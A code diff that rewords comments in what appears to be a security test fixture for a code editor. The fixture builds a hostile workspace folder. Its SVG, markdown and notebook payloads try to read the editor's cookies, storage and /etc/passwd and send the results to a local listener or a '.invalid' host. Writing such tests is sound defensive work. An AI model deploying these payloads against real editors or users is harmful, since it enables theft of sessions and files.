@@ -1,7 +1,8 @@
 /**
- * A stranger's folder that wants to get something out: settings that turn the network on, pictures
+ * A stranger's folder that tries to get something out: settings that turn the network on, pictures
  * and schemas from elsewhere, a notebook whose scripts look for what they can read. Everything
- * leads to a listener of this machine, which says what got through, or to names that are nowhere.
+ * leads to a listener on this machine, which records what got through, or to names that don't
+ * exist.
  */
 import { mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -9,13 +10,13 @@ import { join } from "node:path";
 import { png } from "./png.mjs";
 import { setTraps } from "./traps.mjs";
 
-/** Names that no machine has, where a listener of our own can't be used. */
+/** A host name that no machine has, for when our own listener can't be used. */
 const NOWHERE = "leak.localcoder-test.invalid";
 
-/** Colors by which who can only look at the screen sees that a page is shown. */
+/** Colors by which a test that can only look at the screen sees that a page is shown. */
 export const SEEN = { preview: [254, 1, 127], notebook: [1, 254, 127] };
 
-/** A picture of one point, as an address. */
+/** A picture of one pixel, as a data address. */
 function pointOf(color) {
   return `data:image/png;base64,${png(1, 1, () => color).toString("base64")}`;
 }
@@ -50,7 +51,7 @@ function markup(elsewhere) {
   ];
 }
 
-/** A picture that would load others, and run a script. */
+/** A picture that would load others and run a script. */
 function svg(elsewhere) {
   return `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/svg.css" type="text/css"?>
 <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80"
@@ -62,7 +63,10 @@ function svg(elsewhere) {
 <script>fetch("${elsewhere}/svg-script")</script></svg>`;
 }
 
-/** Writes it into `folder`; `port` is the listener's, `marks` where what the folder runs leaves word. */
+/**
+ * Writes the folder; `port` is the listener's, `marks` the folder in which programs that the folder
+ * starts leave their marks.
+ */
 export function makeHostile(folder, port, marks) {
   const elsewhere = `http://127.0.0.1:${port}`;
   mkdirSync(join(folder, ".vscode"), { recursive: true });
@@ -129,12 +133,12 @@ export function makeHostile(folder, port, marks) {
     `# Pictures\n\n<img src="${pointOf(SEEN.preview)}" width="200" height="100">\n\n${page}`,
   );
   write("README.md", `# Read me\n\n${page}`);
-  // By itself: the browser puts a page of its own in place of one that goes where it may not.
+  // A file of its own, because the browser replaces a page that navigates where it may not.
   write("AWAY.md", `# Away\n\n<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">\n`);
   write("leak.ipynb", notebook(elsewhere));
 }
 
-/** Kinds of outputs beside HTML that a renderer shows. */
+/** Kinds of outputs that a renderer shows, besides HTML. */
 const OUTPUTS = ["image/svg+xml", "application/javascript", "text/markdown", "text/latex"];
 
 function contentOf(type, elsewhere) {
@@ -147,7 +151,7 @@ function contentOf(type, elsewhere) {
   return `![remote](${elsewhere}/output.png)\n\n${markup(elsewhere).join("\n\n")}`;
 }
 
-/** A notebook with an output that runs scripts where it is shown. */
+/** A notebook with an output that runs scripts when it is shown. */
 function notebook(elsewhere) {
   const output = `${markup(elsewhere)
     .filter((it) => !/<script/u.test(it))
@@ -197,7 +201,7 @@ function notebook(elsewhere) {
   };
 }
 
-/** Runs in the notebook's page: tries everything, and writes down what came of it. */
+/** Runs in the notebook's page: tries everything, and writes down the results. */
 async function attack(elsewhere, nowhere, color) {
   const tried = {};
   const attempt = async (name, body) => {
@@ -210,7 +214,7 @@ async function attack(elsewhere, nowhere, color) {
   await attempt("the editor's cookie", () => window.top?.document.cookie);
   await attempt("the editor's address", () => window.top?.location.href);
   await attempt("the editor's storage", () => JSON.stringify(window.top?.localStorage));
-  // Of its own origin it may have these; nothing of the editor's is in them.
+  // It may have these of its own origin; nothing of the editor's is in them.
   await attempt("own cookie", () => document.cookie);
   const editor = window.location.ancestorOrigins?.[window.location.ancestorOrigins.length - 1];
   const file = "/vscode-remote-resource?path=/etc/passwd";
@@ -250,7 +254,7 @@ async function attack(elsewhere, nowhere, color) {
     }
   };
   await attempt("hints", () => hint(`${elsewhere}/hint?${leak}`));
-  // WebKit looks every few seconds whether there is a proxy, and takes its time for the answer.
+  // WebKit checks for a proxy every few seconds, and takes its time for the answer.
   for (let time = 0; time < 4; time += 1) {
     await attempt("hints of names", () => hint(`https://hint-${time}.${nowhere}/`));
     await new Promise((resolve) => setTimeout(resolve, 2000));
@@ -262,11 +266,14 @@ async function attack(elsewhere, nowhere, color) {
   });
   const shown = /** @type {HTMLElement} */ (document.getElementById("tried"));
   shown.textContent = JSON.stringify(tried);
-  // For who can only look at the screen.
+  // For tests that can only look at the screen.
   shown.style.cssText = `background: rgb(${color}); height: 300px; overflow: hidden`;
 }
 
-/** What the notebook's page does last, as it is gone then: it goes elsewhere with what it knows. */
+/**
+ * The last thing that the notebook's page does, because it is gone afterwards: navigate elsewhere
+ * with what it knows.
+ */
 export function goElsewhere(port) {
   const form = document.createElement("form");
   form.action = `http://127.0.0.1:${port}/form`;
@@ -275,7 +282,10 @@ export function goElsewhere(port) {
   window.location.href = `http://127.0.0.1:${port}/itself`;
 }
 
-/** An extension of the user's whose pages are hostile: its own, and what it says of itself. */
+/**
+ * An extension of the user's whose pages are hostile: one of its own, and the description of
+ * itself.
+ */
 export function hostileExtension(port) {
   const elsewhere = `http://127.0.0.1:${port}`;
   const page = `<!DOCTYPE html><html><body><h1>Page without a policy</h1>${markup(elsewhere).join("\n")}</body></html>`;
